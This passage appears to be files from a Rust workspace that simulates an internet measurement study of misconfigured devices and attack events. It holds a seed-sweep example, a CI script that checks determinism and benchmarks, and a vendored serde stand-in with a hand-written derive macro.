    let (mut spoofed, mut masscan) = (0u64, 0u64);
    for rec in telescope.records() {
        spoofed += rec.is_spoofed as u64;
        masscan += rec.is_masscan as u64;
    }
    println!("\nis_spoofed records: {spoofed} | is_masscan records: {masscan}");

    // A taste of the raw format: the first non-empty minute file as JSONL.
    if let Some(first_minute) = (0..).find(|&m| !telescope.minute_file(m).is_empty()) {
        let jsonl = telescope.minute_file_jsonl(first_minute);
        println!("\nfirst minute file (minute {first_minute}), first 3 records:");
        for line in jsonl.lines().take(3) {
            println!("  {line}");
        }
    }
    eprintln!("elapsed: {:?}", t0.elapsed());
}
