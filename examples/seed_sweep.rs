//! Seed sweep: run the whole study across many seeds in parallel and report
//! the variance of every headline metric — the robustness check a one-shot
//! measurement study cannot do, and the simulation can.
//!
//! ```sh
//! cargo run --release --example seed_sweep [n_seeds]
//! ```

use ofh_core::{Study, StudyConfig};

#[derive(Debug, Clone)]
struct Headline {
    seed: u64,
    misconfigured: u64,
    filtered: usize,
    attack_events: u64,
    infected_total: u64,
    infected_both: u64,
    multistage: u64,
    post_over_pre: f64,
}

fn run_seed(seed: u64) -> Headline {
    let report = Study::new(StudyConfig::quick(seed)).run();
    let (pre, post) = report.fig8.pre_post_listing_means();
    Headline {
        seed,
        misconfigured: report.table5.total,
        filtered: report.table5.honeypots_filtered,
        attack_events: report.table7.total_events,
        infected_total: report.infected.total,
        infected_both: report.infected.both,
        multistage: report.fig9.attackers,
        post_over_pre: if pre > 0.0 { post / pre } else { 0.0 },
    }
}

fn main() {
    let n: u64 = std::env::args().nth(1).and_then(|s| s.parse().ok()).unwrap_or(8);
    let t0 = std::time::Instant::now();

    // Parallel fan-out: each seed is an independent deterministic universe.
    let results: Vec<Headline> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..n).map(|seed| scope.spawn(move || run_seed(seed))).collect();
        handles.into_iter().map(|h| h.join().expect("study run")).collect()
    });

    println!("seed | misconf | filtered | events | infected (both) | multistage | post/pre");
    println!("-----+---------+----------+--------+-----------------+------------+---------");
    for h in &results {
        println!(
            "{:>4} | {:>7} | {:>8} | {:>6} | {:>7} ({:>5}) | {:>10} | {:>7.2}",
            h.seed,
            h.misconfigured,
            h.filtered,
            h.attack_events,
            h.infected_total,
            h.infected_both,
            h.multistage,
            h.post_over_pre
        );
    }

    let stats = |f: &dyn Fn(&Headline) -> f64| {
        let vals: Vec<f64> = results.iter().map(f).collect();
        let mean = vals.iter().sum::<f64>() / vals.len() as f64;
        let var = vals.iter().map(|v| (v - mean).powi(2)).sum::<f64>() / vals.len() as f64;
        (mean, var.sqrt())
    };
    let (m_mis, s_mis) = stats(&|h| h.misconfigured as f64);
    let (m_ev, s_ev) = stats(&|h| h.attack_events as f64);
    let (m_trend, s_trend) = stats(&|h| h.post_over_pre);
    println!("\nacross {n} seeds:");
    println!("  misconfigured devices : {m_mis:.0} ± {s_mis:.1} (inputs: marginals are seeds-invariant; spread = classifier path only)");
    println!("  attack events         : {m_ev:.0} ± {s_ev:.1}");
    println!("  post/pre listing trend: {m_trend:.2} ± {s_trend:.2} (must stay > 1: the Fig. 8 claim)");

    // The structural claims must hold for EVERY seed, not on average.
    for h in &results {
        assert!(h.post_over_pre > 1.0, "seed {}: no post-listing rise", h.seed);
        assert!(h.infected_both * 2 >= h.infected_total, "seed {}: overlap shape broken", h.seed);
        assert!(h.filtered > 0, "seed {}: honeypot filter idle", h.seed);
    }
    println!("\nall structural claims held for every seed.");
    eprintln!("elapsed: {:?}", t0.elapsed());
}
