#!/usr/bin/env sh
# CI entry point: tier-1 build + test, then the parallel-determinism suite
# twice with different harness thread counts — the golden-report guarantee
# must hold regardless of how the test harness itself schedules the runs.
set -eu

cd "$(dirname "$0")"

echo "==> cargo build --release"
cargo build --release

echo "==> cargo test -q (workspace)"
cargo test -q

echo "==> determinism suite, --test-threads=1 (release, includes standard profile)"
cargo test --release -q --test parallel_determinism --test determinism -- --test-threads=1 --include-ignored

echo "==> determinism suite, --test-threads=4 (release)"
cargo test --release -q --test parallel_determinism --test determinism -- --test-threads=4 --include-ignored

echo "==> steal-determinism suite (release, includes the seeded proptest)"
cargo test --release -q --test scaling_determinism -- --include-ignored

echo "==> observability artifacts: emit (quick preset) + schema validation"
OBS_TMP="$(mktemp -d)"
trap 'rm -rf "$OBS_TMP"' EXIT
./target/release/openforhire study --summary --preset quick \
    --metrics-out "$OBS_TMP/metrics.json" --trace-out "$OBS_TMP/trace.jsonl" >/dev/null
cargo run --release -q --example obs_validate -- "$OBS_TMP/metrics.json" "$OBS_TMP/trace.jsonl"

echo "==> chaos smoke: hostile schedule, workers 1 vs 8, byte-for-byte"
./target/release/openforhire study --preset quick --faults hostile --workers 1 \
    > "$OBS_TMP/chaos_w1.txt"
./target/release/openforhire study --preset quick --faults hostile --workers 8 \
    > "$OBS_TMP/chaos_w8.txt"
cmp "$OBS_TMP/chaos_w1.txt" "$OBS_TMP/chaos_w8.txt"
echo "    reports identical under faults at workers 1 and 8"

echo "==> paper-scale smoke: 2^32 universe preset + event-core test suites"
# paper-smoke is the down-sampled twin of paper-scale: the full IPv4 address
# space with a CI-sized population, exercising the indexed target space, the
# timer wheel and the streaming (first-touch) host population end to end.
# Workers 1 vs 4 must still be byte-for-byte.
./target/release/openforhire study --preset paper-smoke --workers 1 \
    > "$OBS_TMP/paper_w1.txt"
./target/release/openforhire study --preset paper-smoke --workers 4 \
    > "$OBS_TMP/paper_w4.txt"
cmp "$OBS_TMP/paper_w1.txt" "$OBS_TMP/paper_w4.txt"
echo "    paper-smoke reports identical at workers 1 and 4"
cargo test --release -q -p ofh-net --test wheel_props --test lazy_hosts
cargo test --release -q --test parallel_determinism implicit_population_matches_eager

echo "==> scaling-smoke: report bytes invariant across workers at fixed shard counts"
# Shard count is a semantic knob (16 and 64 are different traces); worker
# count is a pure execution knob. Golden-diff byte-for-byte at both counts —
# at 64 the worker axis runs past the old fixed-16 partition so the
# work-stealing scheduler's chunked steals are on the tested path.
for SHARDS in 16 64; do
    ./target/release/openforhire study --preset quick --shards "$SHARDS" --workers 1 \
        > "$OBS_TMP/scale_s${SHARDS}_w1.txt"
    WORKERS_AXIS="4"
    [ "$SHARDS" = "64" ] && WORKERS_AXIS="4 8 32"
    for W in $WORKERS_AXIS; do
        ./target/release/openforhire study --preset quick --shards "$SHARDS" --workers "$W" \
            > "$OBS_TMP/scale_s${SHARDS}_w${W}.txt"
        cmp "$OBS_TMP/scale_s${SHARDS}_w1.txt" "$OBS_TMP/scale_s${SHARDS}_w${W}.txt"
    done
    echo "    shards=$SHARDS: reports identical at workers {1, $WORKERS_AXIS}"
done

echo "==> store-smoke: columnar store determinism + query engine + latency budget"
# The store file is a pure function of (seed, shards): paper-smoke written at
# workers 1 and 4 must be byte-identical. Then the query CLI runs against the
# written file, the re-rendered Table 4 must match the live study's, and a
# 10k-query mini workload must hold a (generous) point-lookup p99 budget.
./target/release/openforhire study --preset paper-smoke --workers 1 \
    --store-out "$OBS_TMP/paper_w1.store" >/dev/null
./target/release/openforhire study --preset paper-smoke --workers 4 \
    --store-out "$OBS_TMP/paper_w4.store" >/dev/null
cmp "$OBS_TMP/paper_w1.store" "$OBS_TMP/paper_w4.store"
echo "    paper-smoke stores byte-identical at workers 1 and 4"
./target/release/openforhire query --store "$OBS_TMP/paper_w1.store" info >/dev/null
./target/release/openforhire query --store "$OBS_TMP/paper_w1.store" table 4 \
    > "$OBS_TMP/store_table4.txt"
./target/release/openforhire table 4 --preset paper-smoke > "$OBS_TMP/live_table4.txt"
cmp "$OBS_TMP/store_table4.txt" "$OBS_TMP/live_table4.txt"
echo "    store-derived Table 4 matches the live study render"
BENCH_QUERY_N=10000 BENCH_QUERY_P99_BUDGET_US=5000 \
    BENCH_QUERY_OUT="$OBS_TMP/query.json" \
    cargo bench -q -p ofh-bench --bench query
grep -q '"class": "point"' "$OBS_TMP/query.json"
echo "    10k-query mini workload within p99 budget"

echo "==> obs-gate: regression sentinel + flight recorder smoke"
# Regression sentinel: two same-seed paper-smoke runs at different worker
# counts must produce snapshots whose deterministic sections are
# byte-identical — `obsdiff` exits 0. Perturbing one deterministic counter
# must flip it to a nonzero exit. Then a fault-windowed run with the flight
# recorder armed must leave per-shard flight-*.jsonl dumps behind.
./target/release/openforhire study --preset paper-smoke --workers 1 \
    --metrics-out "$OBS_TMP/obs_a.json" >/dev/null
./target/release/openforhire study --preset paper-smoke --workers 4 \
    --metrics-out "$OBS_TMP/obs_b.json" >/dev/null
./target/release/openforhire obsdiff "$OBS_TMP/obs_a.json" "$OBS_TMP/obs_b.json"
echo "    same-seed snapshots: deterministic sections identical (exit 0)"
sed 's/"net.events_processed":[0-9]*/"net.events_processed":1/' \
    "$OBS_TMP/obs_a.json" > "$OBS_TMP/obs_perturbed.json"
if ./target/release/openforhire obsdiff "$OBS_TMP/obs_a.json" "$OBS_TMP/obs_perturbed.json" \
    > /dev/null 2>&1; then
    echo "    ERROR: obsdiff accepted a perturbed deterministic counter" >&2
    exit 1
fi
echo "    perturbed deterministic counter rejected (nonzero exit)"
./target/release/openforhire study --preset quick --faults hostile \
    --flight-dir "$OBS_TMP/flight" --summary >/dev/null 2>&1
ls "$OBS_TMP"/flight/flight-*.jsonl >/dev/null
echo "    fault-window run left flight-recorder dumps in --flight-dir"

echo "==> scaling curve, bounded mini grid (exercises the bench harness)"
BENCH_SCALING_MINI=1 BENCH_SCALING_OUT="$OBS_TMP/scaling.json" \
    cargo bench -q -p ofh-bench --bench scaling
grep -q '"preset": "quick", "shards": 64' "$OBS_TMP/scaling.json"
echo "    mini scaling grid written and well-formed"

echo "==> bench suite, smoke mode (every body runs once, no timing)"
cargo bench -p ofh-bench -- --test

echo "==> ci.sh: all green"
