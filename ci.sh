#!/usr/bin/env sh
# CI entry point: tier-1 build + test, then the parallel-determinism suite
# twice with different harness thread counts — the golden-report guarantee
# must hold regardless of how the test harness itself schedules the runs.
set -eu

cd "$(dirname "$0")"

echo "==> cargo build --release"
cargo build --release

echo "==> cargo test -q (workspace)"
cargo test -q

echo "==> determinism suite, --test-threads=1 (release, includes standard profile)"
cargo test --release -q --test parallel_determinism --test determinism -- --test-threads=1 --include-ignored

echo "==> determinism suite, --test-threads=4 (release)"
cargo test --release -q --test parallel_determinism --test determinism -- --test-threads=4 --include-ignored

echo "==> observability artifacts: emit (quick preset) + schema validation"
OBS_TMP="$(mktemp -d)"
trap 'rm -rf "$OBS_TMP"' EXIT
./target/release/openforhire study --summary --preset quick \
    --metrics-out "$OBS_TMP/metrics.json" --trace-out "$OBS_TMP/trace.jsonl" >/dev/null
cargo run --release -q --example obs_validate -- "$OBS_TMP/metrics.json" "$OBS_TMP/trace.jsonl"

echo "==> chaos smoke: hostile schedule, workers 1 vs 8, byte-for-byte"
./target/release/openforhire study --preset quick --faults hostile --workers 1 \
    > "$OBS_TMP/chaos_w1.txt"
./target/release/openforhire study --preset quick --faults hostile --workers 8 \
    > "$OBS_TMP/chaos_w8.txt"
cmp "$OBS_TMP/chaos_w1.txt" "$OBS_TMP/chaos_w8.txt"
echo "    reports identical under faults at workers 1 and 8"

echo "==> paper-scale smoke: 2^32 universe preset + event-core test suites"
# paper-smoke is the down-sampled twin of paper-scale: the full IPv4 address
# space with a CI-sized population, exercising the indexed target space, the
# timer wheel and the streaming (first-touch) host population end to end.
# Workers 1 vs 4 must still be byte-for-byte.
./target/release/openforhire study --preset paper-smoke --workers 1 \
    > "$OBS_TMP/paper_w1.txt"
./target/release/openforhire study --preset paper-smoke --workers 4 \
    > "$OBS_TMP/paper_w4.txt"
cmp "$OBS_TMP/paper_w1.txt" "$OBS_TMP/paper_w4.txt"
echo "    paper-smoke reports identical at workers 1 and 4"
cargo test --release -q -p ofh-net --test wheel_props --test lazy_hosts
cargo test --release -q --test parallel_determinism implicit_population_matches_eager

echo "==> bench suite, smoke mode (every body runs once, no timing)"
cargo bench -p ofh-bench -- --test

echo "==> ci.sh: all green"
