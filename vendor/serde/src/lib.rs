//! Offline vendored stand-in for `serde`.
//!
//! The real serde visitor/data-model machinery is far larger than this
//! workspace needs, so the vendored version collapses serialization to a
//! single self-describing [`Value`] tree:
//!
//! * [`Serialize`] renders a type into a [`Value`],
//! * [`Deserialize`] rebuilds a type from a [`Value`],
//! * the companion `serde_json` crate renders/parses `Value` as JSON,
//! * `#[derive(Serialize, Deserialize)]` comes from the vendored
//!   `serde_derive` proc-macro (supports named/tuple/unit structs, enums
//!   with unit/tuple/struct variants, and the `#[serde(default)]` /
//!   `#[serde(skip)]` field attributes used in this workspace).
//!
//! Representation choices mirror serde's defaults where the workspace can
//! observe them: externally-tagged enums, newtype structs as their inner
//! value, `Ipv4Addr` as a dotted-quad string.

mod impls;
pub mod value;

pub use serde_derive::{Deserialize, Serialize};
pub use value::Value;

/// Deserialization error: a human-readable message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeError(pub String);

impl DeError {
    pub fn custom(msg: impl Into<String>) -> DeError {
        DeError(msg.into())
    }
}

impl std::fmt::Display for DeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl std::error::Error for DeError {}

/// A type that can render itself into a [`Value`].
pub trait Serialize {
    fn to_value(&self) -> Value;
}

/// A type that can rebuild itself from a [`Value`].
pub trait Deserialize: Sized {
    fn from_value(v: &Value) -> Result<Self, DeError>;
}

/// Namespace mirroring `serde::de` for error construction in generated code.
pub mod de {
    pub use crate::DeError as Error;
}

/// Namespace mirroring `serde::ser`.
pub mod ser {
    pub use crate::DeError as Error;
}
