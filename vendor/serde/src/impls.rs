//! `Serialize`/`Deserialize` impls for std types used by the workspace.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::Ipv4Addr;

use crate::value::{type_err, Value};
use crate::{DeError, Deserialize, Serialize};

// ---- scalars ----

macro_rules! impl_uint {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value {
                Value::U64(*self as u64)
            }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, DeError> {
                let raw = v.as_u64().ok_or_else(|| type_err("unsigned integer", v, stringify!($t)))?;
                <$t>::try_from(raw).map_err(|_| DeError::custom(format!(
                    "{raw} out of range for {}", stringify!($t))))
            }
        }
    )*};
}
impl_uint!(u8, u16, u32, u64, usize);

macro_rules! impl_int {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value {
                Value::I64(*self as i64)
            }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, DeError> {
                let raw = v.as_i64().ok_or_else(|| type_err("integer", v, stringify!($t)))?;
                <$t>::try_from(raw).map_err(|_| DeError::custom(format!(
                    "{raw} out of range for {}", stringify!($t))))
            }
        }
    )*};
}
impl_int!(i8, i16, i32, i64, isize);

macro_rules! impl_float {
    ($($t:ty),*) => {$(
        impl Serialize for $t {
            fn to_value(&self) -> Value {
                Value::F64(*self as f64)
            }
        }
        impl Deserialize for $t {
            fn from_value(v: &Value) -> Result<Self, DeError> {
                v.as_f64()
                    .map(|f| f as $t)
                    .ok_or_else(|| type_err("number", v, stringify!($t)))
            }
        }
    )*};
}
impl_float!(f32, f64);

impl Serialize for bool {
    fn to_value(&self) -> Value {
        Value::Bool(*self)
    }
}
impl Deserialize for bool {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        match v {
            Value::Bool(b) => Ok(*b),
            _ => Err(type_err("bool", v, "bool")),
        }
    }
}

impl Serialize for char {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}
impl Deserialize for char {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        let s = v.as_str().ok_or_else(|| type_err("string", v, "char"))?;
        let mut chars = s.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(DeError::custom(format!("expected single char, got {s:?}"))),
        }
    }
}

// ---- strings ----

impl Serialize for String {
    fn to_value(&self) -> Value {
        Value::Str(self.clone())
    }
}
impl Deserialize for String {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        v.as_str()
            .map(str::to_string)
            .ok_or_else(|| type_err("string", v, "String"))
    }
}

impl Serialize for str {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}

impl<T: Serialize + ?Sized> Serialize for &T {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn to_value(&self) -> Value {
        (**self).to_value()
    }
}
impl<T: Deserialize> Deserialize for Box<T> {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        T::from_value(v).map(Box::new)
    }
}

// ---- containers ----

impl<T: Serialize> Serialize for Option<T> {
    fn to_value(&self) -> Value {
        match self {
            Some(x) => x.to_value(),
            None => Value::Null,
        }
    }
}
impl<T: Deserialize> Deserialize for Option<T> {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        match v {
            Value::Null => Ok(None),
            other => T::from_value(other).map(Some),
        }
    }
}

impl<T: Serialize> Serialize for Vec<T> {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}
impl<T: Deserialize> Deserialize for Vec<T> {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        v.as_seq()
            .ok_or_else(|| type_err("sequence", v, "Vec"))?
            .iter()
            .map(T::from_value)
            .collect()
    }
}

impl<T: Serialize> Serialize for [T] {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}

impl<T: Serialize, const N: usize> Serialize for [T; N] {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}
impl<T: Deserialize + std::fmt::Debug, const N: usize> Deserialize for [T; N] {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        let items: Vec<T> = Vec::from_value(v)?;
        let n = items.len();
        <[T; N]>::try_from(items)
            .map_err(|_| DeError::custom(format!("expected {N} elements, got {n}")))
    }
}

macro_rules! impl_tuple {
    ($($len:literal => ($($t:ident . $idx:tt),+),)*) => {$(
        impl<$($t: Serialize),+> Serialize for ($($t,)+) {
            fn to_value(&self) -> Value {
                Value::Seq(vec![$(self.$idx.to_value()),+])
            }
        }
        impl<$($t: Deserialize),+> Deserialize for ($($t,)+) {
            fn from_value(v: &Value) -> Result<Self, DeError> {
                let s = v.as_seq().ok_or_else(|| type_err("sequence", v, "tuple"))?;
                if s.len() != $len {
                    return Err(DeError::custom(format!(
                        "expected {}-tuple, got {} elements", $len, s.len())));
                }
                Ok(($($t::from_value(&s[$idx])?,)+))
            }
        }
    )*};
}
impl_tuple! {
    1 => (A.0),
    2 => (A.0, B.1),
    3 => (A.0, B.1, C.2),
    4 => (A.0, B.1, C.2, D.3),
}

impl<K: Serialize, V: Serialize> Serialize for BTreeMap<K, V> {
    fn to_value(&self) -> Value {
        Value::Map(self.iter().map(|(k, v)| (k.to_value(), v.to_value())).collect())
    }
}
impl<K: Deserialize + Ord, V: Deserialize> Deserialize for BTreeMap<K, V> {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        match v {
            Value::Map(pairs) => pairs
                .iter()
                .map(|(k, v)| Ok((K::from_value(k)?, V::from_value(v)?)))
                .collect(),
            // Non-string-keyed maps render to JSON as arrays of [k, v] pairs.
            Value::Seq(pairs) => pairs
                .iter()
                .map(|pair| {
                    let s = pair
                        .as_seq()
                        .filter(|s| s.len() == 2)
                        .ok_or_else(|| type_err("[key, value] pair", pair, "map entry"))?;
                    Ok((K::from_value(&s[0])?, V::from_value(&s[1])?))
                })
                .collect(),
            _ => Err(type_err("map", v, "BTreeMap")),
        }
    }
}

impl<K: Serialize, V: Serialize> Serialize for HashMap<K, V> {
    fn to_value(&self) -> Value {
        // Deterministic output requires a canonical order; sort rendered keys.
        let mut pairs: Vec<(Value, Value)> =
            self.iter().map(|(k, v)| (k.to_value(), v.to_value())).collect();
        pairs.sort_by(|a, b| format!("{:?}", a.0).cmp(&format!("{:?}", b.0)));
        Value::Map(pairs)
    }
}

impl<T: Serialize> Serialize for BTreeSet<T> {
    fn to_value(&self) -> Value {
        Value::Seq(self.iter().map(Serialize::to_value).collect())
    }
}
impl<T: Deserialize + Ord> Deserialize for BTreeSet<T> {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        v.as_seq()
            .ok_or_else(|| type_err("sequence", v, "BTreeSet"))?
            .iter()
            .map(T::from_value)
            .collect()
    }
}

// ---- std::net ----

impl Serialize for Ipv4Addr {
    fn to_value(&self) -> Value {
        Value::Str(self.to_string())
    }
}
impl Deserialize for Ipv4Addr {
    fn from_value(v: &Value) -> Result<Self, DeError> {
        let s = v.as_str().ok_or_else(|| type_err("string", v, "Ipv4Addr"))?;
        s.parse()
            .map_err(|_| DeError::custom(format!("invalid IPv4 address {s:?}")))
    }
}
