//! The self-describing value tree all (de)serialization routes through.

use crate::DeError;

/// A serialized value.
///
/// Maps keep insertion order (field order / BTreeMap iteration order) so
/// rendering is deterministic. Keys are full `Value`s because the workspace
/// serializes `BTreeMap`s with tuple keys; JSON rendering special-cases
/// all-string-key maps into objects and renders the rest as pair arrays.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    U64(u64),
    I64(i64),
    F64(f64),
    Str(String),
    Seq(Vec<Value>),
    Map(Vec<(Value, Value)>),
}

impl Value {
    pub fn as_map(&self) -> Option<&[(Value, Value)]> {
        match self {
            Value::Map(m) => Some(m),
            _ => None,
        }
    }

    pub fn as_seq(&self) -> Option<&[Value]> {
        match self {
            Value::Seq(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        match *self {
            Value::U64(v) => Some(v),
            Value::I64(v) if v >= 0 => Some(v as u64),
            _ => None,
        }
    }

    pub fn as_i64(&self) -> Option<i64> {
        match *self {
            Value::I64(v) => Some(v),
            Value::U64(v) if v <= i64::MAX as u64 => Some(v as i64),
            _ => None,
        }
    }

    pub fn as_f64(&self) -> Option<f64> {
        match *self {
            Value::F64(v) => Some(v),
            Value::U64(v) => Some(v as f64),
            Value::I64(v) => Some(v as f64),
            _ => None,
        }
    }

    /// A short description of the value's shape, for error messages.
    pub fn kind(&self) -> &'static str {
        match self {
            Value::Null => "null",
            Value::Bool(_) => "bool",
            Value::U64(_) | Value::I64(_) => "integer",
            Value::F64(_) => "float",
            Value::Str(_) => "string",
            Value::Seq(_) => "sequence",
            Value::Map(_) => "map",
        }
    }
}

/// Look up a string key in a map value (generated code helper).
pub fn get<'a>(map: &'a [(Value, Value)], key: &str) -> Option<&'a Value> {
    map.iter()
        .find(|(k, _)| matches!(k, Value::Str(s) if s == key))
        .map(|(_, v)| v)
}

/// Error helper for generated code.
pub fn type_err(expected: &str, got: &Value, ty: &str) -> DeError {
    DeError(format!("{ty}: expected {expected}, got {}", got.kind()))
}
