//! Hand-rolled `#[derive(Serialize)]` / `#[derive(Deserialize)]` for the
//! vendored serde stand-in.
//!
//! The build environment is offline, so `syn`/`quote` are unavailable; the
//! item is parsed directly from the `proc_macro::TokenStream`. Supported
//! shapes (everything this workspace derives on):
//!
//! * structs with named fields (incl. `#[serde(default)]` / `#[serde(skip)]`),
//! * tuple structs (newtypes serialize as their inner value),
//! * unit structs,
//! * enums with unit, tuple, and struct variants (externally tagged).
//!
//! Generics are not supported (the workspace has no generic serde types).
//! Field *types* never need parsing: generated code calls
//! `serde::Serialize::to_value` / `serde::Deserialize::from_value` and lets
//! type inference resolve the impl.

use proc_macro::{Delimiter, TokenStream, TokenTree};

// ---- item model ----

struct Field {
    name: String,
    default: bool,
    skip: bool,
}

enum Fields {
    Unit,
    Named(Vec<Field>),
    Tuple(usize),
}

struct Variant {
    name: String,
    fields: Fields,
}

enum Item {
    Struct { name: String, fields: Fields },
    Enum { name: String, variants: Vec<Variant> },
}

// ---- parsing ----

struct Cursor {
    toks: Vec<TokenTree>,
    pos: usize,
}

impl Cursor {
    fn new(ts: TokenStream) -> Cursor {
        Cursor {
            toks: ts.into_iter().collect(),
            pos: 0,
        }
    }

    fn peek(&self) -> Option<&TokenTree> {
        self.toks.get(self.pos)
    }

    fn next(&mut self) -> Option<TokenTree> {
        let t = self.toks.get(self.pos).cloned();
        if t.is_some() {
            self.pos += 1;
        }
        t
    }

    fn at_punct(&self, ch: char) -> bool {
        matches!(self.peek(), Some(TokenTree::Punct(p)) if p.as_char() == ch)
    }

    fn at_ident(&self, name: &str) -> bool {
        matches!(self.peek(), Some(TokenTree::Ident(i)) if i.to_string() == name)
    }

    /// Consume one `#[...]` attribute; returns (is_serde_default, is_serde_skip).
    fn eat_attr(&mut self) -> (bool, bool) {
        // caller has verified we are at '#'
        self.next();
        let Some(TokenTree::Group(g)) = self.next() else {
            panic!("malformed attribute");
        };
        let inner: Vec<TokenTree> = g.stream().into_iter().collect();
        let mut default = false;
        let mut skip = false;
        if let Some(TokenTree::Ident(i)) = inner.first() {
            if i.to_string() == "serde" {
                if let Some(TokenTree::Group(args)) = inner.get(1) {
                    for t in args.stream() {
                        if let TokenTree::Ident(i) = t {
                            match i.to_string().as_str() {
                                "default" => default = true,
                                "skip" => skip = true,
                                _ => {}
                            }
                        }
                    }
                }
            }
        }
        (default, skip)
    }

    /// Skip attributes (returning accumulated serde flags) and visibility.
    fn eat_attrs_and_vis(&mut self) -> (bool, bool) {
        let (mut default, mut skip) = (false, false);
        loop {
            if self.at_punct('#') {
                let (d, s) = self.eat_attr();
                default |= d;
                skip |= s;
            } else if self.at_ident("pub") {
                self.next();
                if let Some(TokenTree::Group(g)) = self.peek() {
                    if g.delimiter() == Delimiter::Parenthesis {
                        self.next();
                    }
                }
            } else {
                return (default, skip);
            }
        }
    }

    /// Skip tokens until a top-level comma (tracking `<...>` nesting), and
    /// consume the comma if present.
    fn skip_until_comma(&mut self) {
        let mut angle = 0i32;
        while let Some(t) = self.peek() {
            match t {
                TokenTree::Punct(p) => {
                    let c = p.as_char();
                    if c == ',' && angle == 0 {
                        self.next();
                        return;
                    }
                    if c == '<' {
                        angle += 1;
                    } else if c == '>' {
                        angle -= 1;
                    }
                    self.next();
                }
                _ => {
                    self.next();
                }
            }
        }
    }
}

fn parse_named_fields(group: TokenStream) -> Vec<Field> {
    let mut c = Cursor::new(group);
    let mut fields = Vec::new();
    while c.peek().is_some() {
        let (default, skip) = c.eat_attrs_and_vis();
        let Some(TokenTree::Ident(name)) = c.next() else {
            panic!("expected field name");
        };
        assert!(c.at_punct(':'), "expected `:` after field `{name}`");
        c.next();
        c.skip_until_comma();
        fields.push(Field {
            name: name.to_string(),
            default,
            skip,
        });
    }
    fields
}

fn parse_tuple_arity(group: TokenStream) -> usize {
    let mut c = Cursor::new(group);
    if c.peek().is_none() {
        return 0;
    }
    let mut count = 1;
    let mut angle = 0i32;
    while let Some(t) = c.next() {
        if let TokenTree::Punct(p) = t {
            match p.as_char() {
                '<' => angle += 1,
                '>' => angle -= 1,
                ',' if angle == 0 => {
                    if c.peek().is_some() {
                        count += 1;
                    }
                }
                _ => {}
            }
        }
    }
    count
}

fn parse_item(input: TokenStream) -> Item {
    let mut c = Cursor::new(input);
    c.eat_attrs_and_vis();
    let kind = match c.next() {
        Some(TokenTree::Ident(i)) => i.to_string(),
        other => panic!("expected struct/enum, got {other:?}"),
    };
    let Some(TokenTree::Ident(name)) = c.next() else {
        panic!("expected type name");
    };
    let name = name.to_string();
    if c.at_punct('<') {
        panic!("vendored serde_derive does not support generic types ({name})");
    }
    match kind.as_str() {
        "struct" => {
            let fields = match c.peek() {
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                    Fields::Named(parse_named_fields(g.stream()))
                }
                Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                    Fields::Tuple(parse_tuple_arity(g.stream()))
                }
                _ => Fields::Unit,
            };
            Item::Struct { name, fields }
        }
        "enum" => {
            let Some(TokenTree::Group(body)) = c.next() else {
                panic!("expected enum body for {name}");
            };
            let mut vc = Cursor::new(body.stream());
            let mut variants = Vec::new();
            while vc.peek().is_some() {
                vc.eat_attrs_and_vis();
                let Some(TokenTree::Ident(vname)) = vc.next() else {
                    panic!("expected variant name in {name}");
                };
                let fields = match vc.peek() {
                    Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                        let f = Fields::Named(parse_named_fields(g.stream()));
                        vc.next();
                        f
                    }
                    Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                        let f = Fields::Tuple(parse_tuple_arity(g.stream()));
                        vc.next();
                        f
                    }
                    _ => Fields::Unit,
                };
                vc.skip_until_comma(); // discriminant (if any) + comma
                variants.push(Variant {
                    name: vname.to_string(),
                    fields,
                });
            }
            Item::Enum { name, variants }
        }
        other => panic!("cannot derive for `{other}` items"),
    }
}

// ---- codegen ----

fn gen_serialize(item: &Item) -> String {
    let mut out = String::new();
    match item {
        Item::Struct { name, fields } => {
            out.push_str(&format!(
                "impl ::serde::Serialize for {name} {{\n fn to_value(&self) -> ::serde::Value {{\n"
            ));
            match fields {
                Fields::Unit => out.push_str("::serde::Value::Null\n"),
                Fields::Tuple(1) => {
                    out.push_str("::serde::Serialize::to_value(&self.0)\n");
                }
                Fields::Tuple(n) => {
                    out.push_str("::serde::Value::Seq(vec![");
                    for i in 0..*n {
                        out.push_str(&format!("::serde::Serialize::to_value(&self.{i}),"));
                    }
                    out.push_str("])\n");
                }
                Fields::Named(fs) => {
                    out.push_str("let mut m: Vec<(::serde::Value, ::serde::Value)> = Vec::new();\n");
                    for f in fs.iter().filter(|f| !f.skip) {
                        out.push_str(&format!(
